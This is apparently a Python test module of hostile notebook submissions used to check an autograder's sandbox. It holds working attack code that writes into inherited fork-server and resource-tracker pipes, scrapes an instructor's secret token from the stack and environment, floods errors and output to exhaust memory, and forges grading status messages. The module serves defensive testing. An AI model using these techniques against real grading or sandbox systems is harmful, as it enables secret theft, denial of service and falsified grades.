"""Attacks on what the grader holds: its descriptors, its environment, its memory and its output.

Conventions as in ``attacks.py``: a canary starts from the solution and spoils its
``answer_forget_gate`` if the forbidden action worked; a damage case starts from the solution and
keeps its full marks while the rest of the batch (its neighbours, graded at the same time, and
those graded after it) shows that the damage did not happen.

``CANARY_VARIABLE`` stands for a secret of the instructor's shell (an LMS token): it is set in the
environment of the process that declares the corpus, the one that grades it, if it is not set
already. No kernel may ever see it.
"""

import os

from corpus.attacks import IMPORTS, _attack_cell, _canary
from corpus.variants import COMPLETED, POINTS, SOLUTION, AddCell, Submission, edited, points

CANARY_VARIABLE = "EXERCISE_KIT_CANARY_SECRET"
os.environ.setdefault(CANARY_VARIABLE, "the-instructors-token")
VALUES_MIME_TYPE = "application/vnd.exercise-kit.values+json"  # as assignment/lstm_values.py sends them
OUTPUT_LIMIT = r"^Output limit: "

# ---------------------------------------------------------------------------------------------
# 1. Inherited descriptors (canary; its neighbours show the damage). Every descriptor that leads out
# of the kernel: a pipe whose other end the kernel does not hold (the fork server's "alive" pipe,
# where one byte stops the fork server; the resource tracker's, where a REGISTER line makes it
# shm_unlink the name as root at the end of the batch), a file outside its folder (the grading
# child's log, where the grader looked for the reason of a crash). Each gets a REGISTER line for a
# name that does not exist, and each file a forged error line.
# Before (commit 469d7fd, measured): it wrote into the "alive" and tracker pipes and three copies
# of grading.log; the fork server stopped, the notebook graded beside it ended "Crashed" (5 / 20),
# its own status was its forged line, and a new fork server was started with the grader's whole
# environment.

WRITE_INHERITED = r'''
import multiprocessing.forkserver
import multiprocessing.resource_tracker

REGISTER = b"REGISTER:/exercise-kit-attack-no-such-name:shared_memory\n"
FORGED = b"RuntimeError: forged by the notebook\n"


def links():
    found = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            found[int(name)] = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            pass
    return found


def writable(fd):
    flags = (read(f"/proc/self/fdinfo/{fd}") or "").split("flags:")[-1].split()
    return bool(flags) and int(flags[0], 8) & 3 != os.O_RDONLY


def attack():
    table, here = links(), os.getcwd()
    known = [multiprocessing.forkserver._forkserver._forkserver_alive_fd, multiprocessing.resource_tracker._resource_tracker._fd]
    written = []
    for fd, link in sorted(table.items()):
        foreign_pipe = link.startswith("pipe:") and list(table.values()).count(link) == 1
        foreign_file = link.startswith("/") and link != "/dev/null" and not under(link, [here])
        if not (foreign_pipe or foreign_file or fd in known) or not writable(fd):
            continue
        try:
            os.write(fd, FORGED if foreign_file else REGISTER)
            written.append(f"{fd} {link}")
        except OSError:
            pass
    return written
'''

# ---------------------------------------------------------------------------------------------
# 2. The grader's environment (canary, graded after case 1 in the batch). The strings of the
# environment a process image started with stay at the top of its stack, whatever os.environ says
# later, and a forked process has a copy of its ancestors': the kernel reads its own stack's top
# (and /proc/self/environ, which as a uid of its own it may not open) and os.environ, and looks
# for the instructor's variable.
# Before: once case 1 had stopped the fork server, multiprocessing started another with the
# grader's whole environment, and every later kernel found the variable on its stack.

READ_ENVIRONMENT = r'''
import ctypes

CANARY = __CANARY__.encode() + b"="


def stack_top(size=256 * 1024):
    for line in (read("/proc/self/maps") or "").splitlines():
        if line.endswith("[stack]"):
            start, end = (int(address, 16) for address in line.split()[0].split("-"))
            return ctypes.string_at(max(start, end - size), min(size, end - start))
    return b""


def attack():
    places = {"initial stack": stack_top(), "/proc/self/environ": read("/proc/self/environ", binary=True) or b""}
    found = [place for place, block in places.items() if CANARY in block]
    return found + ["os.environ"] * (CANARY[:-1].decode() in os.environ)
'''.replace("__CANARY__", repr(CANARY_VARIABLE))

# ---------------------------------------------------------------------------------------------
# 3. Error flood (solution: must keep full marks). Every values answer the kernel sends gets one
# more error of 3 MB, under a name no check asks for. The record, results.json and the feedback
# hold a few kilobytes of it at most. (The same with 100 MB errors: tests/isolation/test_sandbox.py.)
# Before: each error was written whole into values/<question>.json and read back by the worker
# (100 MB errors: the grade command peaked at 1.4 GB, measured).

FLOOD_ERRORS = r'''
import IPython

MIME_TYPE = __MIME_TYPE__
ERROR = "E" * (3 * 2**20)
shell = IPython.get_ipython()
original_publish = shell.display_pub.publish


def publish(data, *args, **kwargs):
    answer = data.get(MIME_TYPE) if isinstance(data, dict) else None
    if isinstance(answer, dict):
        answer["errors"] = {**answer.get("errors", {}), "flood": ERROR}
    return original_publish(data, *args, **kwargs)


def attack():
    shell.display_pub.publish = publish
    return None
'''.replace("__MIME_TYPE__", repr(VALUES_MIME_TYPE))

# ---------------------------------------------------------------------------------------------
# 4. Print flood (solution): 64 MB of prints right after q2's check. Grading stops at the output
# limit (50 MB); q1 and q2, taken before, keep their points.
# Before (measured): 20 / 20, "Completed", nbclient held every byte: the grading child and its
# kernel peaked at 477 MB (276 MB for the error flood beside it).

FLOOD_OUTPUT = """\
line = "x" * 1023
for _ in range(64 * 1024):
    print(line)"""

# ---------------------------------------------------------------------------------------------
# 5. A malformed output (solution): a display message whose data is text, not a dict, sent on the
# kernel's own IOPub socket for the current cell, ending in what the record's status adds after a
# "; " (so that a status copied from the crash would read back as late and unsandboxed). The
# message is dropped: the notebook goes on, and the status is the grader's own.
# Before (measured, issue 21's review): nbformat refused the output, the grading child crashed, and
# the status was "Crashed: nbformat.validator.NotebookValidationError: 'aaa…; 2 processes were
# left running by the notebook and killed; unsandboxed; late'", chosen by the student.

MALFORMED_OUTPUT = """\
kernel = get_ipython().kernel
text = "; 2 processes were left running by the notebook and killed; unsandboxed; late"
kernel.session.send(kernel.iopub_socket, "display_data", {"data": "a" * 200 + text, "metadata": {}}, parent=kernel.get_parent())
print("still running")"""


ATTACKS = [
    Submission("hostile-inherited-descriptors.ipynb", _canary("inherited-descriptors", WRITE_INHERITED), POINTS, COMPLETED),
    Submission("hostile-reads-grader-environment.ipynb", _canary("reads-grader-environment", READ_ENVIRONMENT), POINTS, COMPLETED),
    Submission("hostile-floods-errors.ipynb", edited(SOLUTION, AddCell(IMPORTS, _attack_cell("floods-errors", FLOOD_ERRORS))), POINTS, COMPLETED),
    Submission(
        "hostile-floods-output.ipynb",
        edited(SOLUTION, AddCell('grader.check("q2_model")', FLOOD_OUTPUT)),
        points(**{question: 0 for question in POINTS if question not in ("q1_data", "q2_model")}),
        OUTPUT_LIMIT,
    ),
    Submission("hostile-malformed-output.ipynb", edited(SOLUTION, AddCell('grader.check("q2_model")', MALFORMED_OUTPUT)), POINTS, COMPLETED),
]
